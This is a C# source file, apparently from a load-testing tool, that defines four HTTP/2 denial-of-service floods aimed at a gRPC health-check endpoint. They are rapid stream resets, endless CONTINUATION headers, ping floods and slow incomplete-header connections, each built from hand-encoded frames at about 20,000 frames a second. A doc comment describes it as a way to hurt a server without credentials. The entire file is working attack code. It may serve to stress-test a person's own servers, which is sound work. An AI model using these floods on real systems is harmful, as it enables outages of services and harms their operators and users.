using System.Text;
using Inventory.Load.Http2;

namespace Inventory.Load.Floods;

/// <summary>A way to hurt a server by HTTP/2 itself, without a credential.</summary>
/// <param name="Name">As it is known.</param>
/// <param name="BurstsPerSecond">
/// How often it sends, on one connection; a new one whenever the server closes it.
/// </param>
/// <param name="Burst">What it sends next, given how many bursts the connection has seen.</param>
internal sealed record Flood(string Name, int BurstsPerSecond, Func<int, byte[]> Burst)
{
    private const int FramesPerBurst = 20;
    private const string Path = "/grpc.health.v1.Health/Check";

    private static readonly byte[] CallHeaders =
    [
        0x83,
        0x86,
        .. Literal(":path", Path),
        .. Literal("content-type", "application/grpc"),
        .. Literal("te", "trailers"),
    ];

    private static readonly byte[] Pings =
    [
        .. Enumerable.Range(0, FramesPerBurst).SelectMany(_ => Frame(FrameType.Ping, 0, 0, new byte[8])),
    ];

    private static readonly byte[] Filler =
    [
        .. Enumerable
            .Range(0, FramesPerBurst)
            .SelectMany(_ => Frame(FrameType.Continuation, 0, 1, Literal("x", new string('y', 100)))),
    ];

    /// <summary>Each sends some 20,000 frames a second, as far as the server takes them.</summary>
    public static IReadOnlyList<Flood> All { get; } =
    [
        new("calls that are reset at once", 1_000, Resets),
        new("headers without end", 1_000, bursts => bursts == 0 ? Frame(FrameType.Headers, 0, 1, CallHeaders) : Filler),
        new("pings", 1_000, _ => Pings),
        new("headers that begin and do not go on", 50, _ => Frame(FrameType.Headers, 0, 1, CallHeaders))
        {
            IsPatient = true,
        },
    ];

    /// <summary>Each burst has a connection of its own, which then only waits.</summary>
    public bool IsPatient { get; private init; }

    private static byte[] Resets(int bursts)
    {
        var first = 1 + (2 * bursts * FramesPerBurst / 2);
        return
        [
            .. Enumerable
                .Range(0, FramesPerBurst / 2)
                .SelectMany(i =>
                    Frame(FrameType.Headers, FrameHeader.EndHeaders, first + (2 * i), CallHeaders)
                        .Concat(Frame(FrameType.RstStream, 0, first + (2 * i), [0, 0, 0, 8]))
                ),
        ];
    }

    private static byte[] Literal(string name, string value) =>
        [
            0x00,
            (byte)name.Length,
            .. Encoding.ASCII.GetBytes(name),
            (byte)value.Length,
            .. Encoding.ASCII.GetBytes(value),
        ];

    private static byte[] Frame(FrameType type, byte flags, int streamId, byte[] payload)
    {
        var frame = new byte[FrameHeader.Size + payload.Length];
        new FrameHeader(payload.Length, type, flags, streamId).Write(frame);
        payload.CopyTo(frame.AsSpan(FrameHeader.Size));
        return frame;
    }
}
